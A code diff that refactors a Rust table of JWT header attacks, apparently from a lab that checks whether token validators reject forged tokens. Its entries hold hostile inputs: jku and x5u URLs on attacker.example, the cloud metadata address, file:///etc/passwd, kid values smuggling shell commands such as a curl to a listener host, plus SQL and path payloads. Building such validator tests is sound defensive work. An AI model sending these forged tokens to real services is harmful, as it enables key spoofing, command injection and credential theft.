@@ -1,18 +1,20 @@
 //! Attacks by the header: it brings a key, says where one lies, or sets rules of its own.
 
-use super::{AttackKind, Definition, JudgedBy, attack_text, define};
+use super::{AttackKind, Definition, JudgedBy, attack_text};
 use crate::code::Code;
 use crate::lab::forge::{Members, quoted};
 use crate::lab::naive;
 use crate::profiles::demo::DemoAlgorithm;
 
 pub(super) static ATTACKS: &[Definition] = &[
-    define(
-        attack_text!("inline-key"),
-        11,
-        "ik",
-        Code::HeaderNotAllowed,
-        AttackKind::Token {
+    Definition {
+        text: attack_text!("inline-key"),
+        number: 11,
+        key: "ik",
+        expected: Code::HeaderNotAllowed,
+        needs: None,
+        variants: &[],
+        kind: AttackKind::Token {
             judged_by: JudgedBy::Demo,
             forge: |forge, _| {
                 let header = forge.original.header.with("jwk", forge.attacker_jwk());
@@ -20,181 +22,193 @@ pub(super) static ATTACKS: &[Definition] = &[
             },
             naive: &naive::TRUSTS_JWK,
         },
-    ),
+    },
     Definition {
+        text: attack_text!("spoofed-key-set"),
+        number: 12,
+        key: "sk",
+        expected: Code::HeaderNotAllowed,
+        needs: None,
         variants: &[
             "https://keys.attacker.example/jwks.json",
             "http://169.254.169.254/latest/meta-data/",
             "file:///etc/passwd",
         ],
-        ..define(
-            attack_text!("spoofed-key-set"),
-            12,
-            "sk",
-            Code::HeaderNotAllowed,
-            AttackKind::Token {
-                judged_by: JudgedBy::Demo,
-                forge: |forge, address| {
-                    let header = forge.original.header.with("jku", quoted(address));
-                    forge.by_attacker(&header, "Made with the key that would lie at the address.")
-                },
-                naive: &naive::FOLLOWS_JKU,
+        kind: AttackKind::Token {
+            judged_by: JudgedBy::Demo,
+            forge: |forge, address| {
+                let header = forge.original.header.with("jku", quoted(address));
+                forge.by_attacker(&header, "Made with the key that would lie at the address.")
             },
-        )
+            naive: &naive::FOLLOWS_JKU,
+        },
     },
     Definition {
+        text: attack_text!("kid-empty-file"),
+        number: 13,
+        key: "ke",
+        expected: Code::UnknownKid,
         needs: Some(DemoAlgorithm::HS256),
         variants: PATHS,
-        ..define(attack_text!("kid-empty-file"), 13, "ke", Code::UnknownKid, EMPTY_FILE)
+        kind: EMPTY_FILE,
     },
     Definition {
+        text: attack_text!("kid-empty-file-rs256"),
+        number: 13,
+        key: "ke",
+        expected: Code::AlgNotAllowed,
         needs: Some(DemoAlgorithm::RS256),
         variants: PATHS,
-        ..define(attack_text!("kid-empty-file-rs256"), 13, "ke", Code::AlgNotAllowed, EMPTY_FILE)
+        kind: EMPTY_FILE,
     },
     Definition {
+        text: attack_text!("kid-command"),
+        number: 14,
+        key: "ki",
+        expected: Code::UnknownKid,
+        needs: None,
         variants: &["| sleep 10", "| curl https://listener.attacker.example/"],
-        ..define(
-            attack_text!("kid-command"),
-            14,
-            "ki",
-            Code::UnknownKid,
-            AttackKind::Token {
-                judged_by: JudgedBy::Demo,
-                forge: |forge, command| {
-                    let header = forge.original.header.with("kid", quoted(command));
-                    Ok(if forge.is_mac() {
-                        forge.sign_with_hmac(&header, b"", "Made with the empty key, which such a command prints.")
-                    } else {
-                        forge.stale(header.to_string(), forge.original.claims.to_string())
-                    })
-                },
-                naive: &naive::RUNS_KID_AS_COMMAND,
+        kind: AttackKind::Token {
+            judged_by: JudgedBy::Demo,
+            forge: |forge, command| {
+                let header = forge.original.header.with("kid", quoted(command));
+                Ok(if forge.is_mac() {
+                    forge.sign_with_hmac(&header, b"", "Made with the empty key, which such a command prints.")
+                } else {
+                    forge.stale(header.to_string(), forge.original.claims.to_string())
+                })
             },
-        )
+            naive: &naive::RUNS_KID_AS_COMMAND,
+        },
     },
     Definition {
+        text: attack_text!("kid-sql"),
+        number: 15,
+        key: "ks",
+        expected: Code::UnknownKid,
         needs: Some(DemoAlgorithm::HS256),
-        ..define(attack_text!("kid-sql"), 15, "ks", Code::UnknownKid, SQL)
+        variants: &[],
+        kind: SQL,
     },
     Definition {
+        text: attack_text!("kid-sql-rs256"),
+        number: 15,
+        key: "ks",
+        expected: Code::AlgNotAllowed,
         needs: Some(DemoAlgorithm::RS256),
-        ..define(attack_text!("kid-sql-rs256"), 15, "ks", Code::AlgNotAllowed, SQL)
+        variants: &[],
+        kind: SQL,
     },
     Definition {
+        text: attack_text!("outside-header"),
+        number: 16,
+        key: "oa",
+        expected: Code::HeaderNotAllowed,
+        needs: None,
         variants: &["jku", "x5u", "x5c", "jwk", "crit", "zip"],
-        ..define(
-            attack_text!("outside-header"),
-            16,
-            "oa",
-            Code::HeaderNotAllowed,
-            AttackKind::Token {
-                judged_by: JudgedBy::Demo,
-                forge: |forge, member| Ok(forge.stale_header(member, quoted(super::claims::LISTENER))),
-                naive: &naive::CALLS_ADDRESSES,
-            },
-        )
+        kind: AttackKind::Token {
+            judged_by: JudgedBy::Demo,
+            forge: |forge, member| Ok(forge.stale_header(member, quoted(super::claims::LISTENER))),
+            naive: &naive::CALLS_ADDRESSES,
+        },
     },
-    define(
-        attack_text!("outside-kid"),
-        16,
-        "oa",
-        Code::UnknownKid,
-        AttackKind::Token {
+    Definition {
+        text: attack_text!("outside-kid"),
+        number: 16,
+        key: "oa",
+        expected: Code::UnknownKid,
+        needs: None,
+        variants: &[],
+        kind: AttackKind::Token {
             judged_by: JudgedBy::Demo,
             forge: |forge, _| Ok(forge.stale_header("kid", quoted(super::claims::LISTENER))),
             naive: &naive::CALLS_ADDRESSES,
         },
-    ),
+    },
     Definition {
+        text: attack_text!("crit"),
+        number: 31,
+        key: "cr",
+        expected: Code::HeaderNotAllowed,
+        needs: None,
         variants: &["unknown", "exp"],
-        ..define(
-            attack_text!("crit"),
-            31,
-            "cr",
-            Code::HeaderNotAllowed,
-            AttackKind::Token {
-                judged_by: JudgedBy::Lab,
-                forge: |forge, listed| {
-                    let header = forge.lab_header();
-                    let header = match listed {
-                        "exp" => header.with("crit", r#"["exp"]"#).with("exp", forge.seconds(60)),
-                        _ => header.with("crit", r#"["x"]"#).with("x", "true"),
-                    };
-                    forge.resigned(header.to_string(), forge.original.claims.to_string())
-                },
-                naive: &naive::IGNORES_CRIT,
+        kind: AttackKind::Token {
+            judged_by: JudgedBy::Lab,
+            forge: |forge, listed| {
+                let header = forge.lab_header();
+                let header = match listed {
+                    "exp" => header.with("crit", r#"["exp"]"#).with("exp", forge.seconds(60)),
+                    _ => header.with("crit", r#"["x"]"#).with("x", "true"),
+                };
+                forge.resigned(header.to_string(), forge.original.claims.to_string())
             },
-        )
+            naive: &naive::IGNORES_CRIT,
+        },
     },
     Definition {
+        text: attack_text!("another-typ"),
+        number: 32,
+        key: "at",
+        expected: Code::WrongType,
+        needs: None,
         variants: TYPES,
-        ..define(
-            attack_text!("another-typ"),
-            32,
-            "at",
-            Code::WrongType,
-            AttackKind::Token {
-                judged_by: JudgedBy::Lab,
-                forge: |forge, typ| forge.resign_header("typ", quoted(typ)),
-                naive: &naive::IGNORES_TYP,
-            },
-        )
+        kind: AttackKind::Token {
+            judged_by: JudgedBy::Lab,
+            forge: |forge, typ| forge.resign_header("typ", quoted(typ)),
+            naive: &naive::IGNORES_TYP,
+        },
     },
     Definition {
+        text: attack_text!("another-typ-stale"),
+        number: 32,
+        key: "at",
+        expected: Code::BadSignature,
+        needs: None,
         variants: TYPES,
-        ..define(
-            attack_text!("another-typ-stale"),
-            32,
-            "at",
-            Code::BadSignature,
-            AttackKind::Token {
-                judged_by: JudgedBy::Demo,
-                forge: |forge, typ| Ok(forge.stale_header("typ", quoted(typ))),
-                naive: &naive::SKIPS_SIGNATURE,
-            },
-        )
+        kind: AttackKind::Token {
+            judged_by: JudgedBy::Demo,
+            forge: |forge, typ| Ok(forge.stale_header("typ", quoted(typ))),
+            naive: &naive::SKIPS_SIGNATURE,
+        },
     },
     Definition {
+        text: attack_text!("typ-at-api"),
+        number: 32,
+        key: "at",
+        expected: Code::WrongType,
+        needs: None,
         variants: &["absent", "JWT"],
-        ..define(
-            attack_text!("typ-at-api"),
-            32,
-            "at",
-            Code::WrongType,
-            AttackKind::Token {
-                judged_by: JudgedBy::LabApi,
-                forge: |forge, typ| {
-                    let header = match typ {
-                        "JWT" => forge.lab_header().with("typ", quoted("JWT")),
-                        _ => forge.lab_header().without("typ"),
-                    };
-                    forge.resigned(header.to_string(), super::claims::api_claims(forge).to_string())
-                },
-                naive: &naive::IGNORES_TYP,
+        kind: AttackKind::Token {
+            judged_by: JudgedBy::LabApi,
+            forge: |forge, typ| {
+                let header = match typ {
+                    "JWT" => forge.lab_header().with("typ", quoted("JWT")),
+                    _ => forge.lab_header().without("typ"),
+                };
+                forge.resigned(header.to_string(), super::claims::api_claims(forge).to_string())
             },
-        )
+            naive: &naive::IGNORES_TYP,
+        },
     },
     Definition {
+        text: attack_text!("certificate-in-header"),
+        number: 34,
+        key: "ce",
+        expected: Code::HeaderNotAllowed,
+        needs: None,
         variants: &["x5c", "x5u"],
-        ..define(
-            attack_text!("certificate-in-header"),
-            34,
-            "ce",
-            Code::HeaderNotAllowed,
-            AttackKind::Token {
-                judged_by: JudgedBy::Demo,
-                forge: |forge, member| {
-                    let value = match member {
-                        "x5u" => quoted("https://keys.attacker.example/certificate.pem"),
-                        _ => format!("[{}]", quoted(&forge.attacker_certificate()?)),
-                    };
-                    let header = forge.original.header.with("alg", quoted("RS256")).with(member, value);
-                    forge.by_rsa_attacker(&header, "Made with the key of the certificate.")
-                },
-                naive: &naive::TRUSTS_CERTIFICATES,
+        kind: AttackKind::Token {
+            judged_by: JudgedBy::Demo,
+            forge: |forge, member| {
+                let value = match member {
+                    "x5u" => quoted("https://keys.attacker.example/certificate.pem"),
+                    _ => format!("[{}]", quoted(&forge.attacker_certificate()?)),
+                };
+                let header = forge.original.header.with("alg", quoted("RS256")).with(member, value);
+                forge.by_rsa_attacker(&header, "Made with the key of the certificate.")
             },
-        )
+            naive: &naive::TRUSTS_CERTIFICATES,
+        },
     },
 ];
 
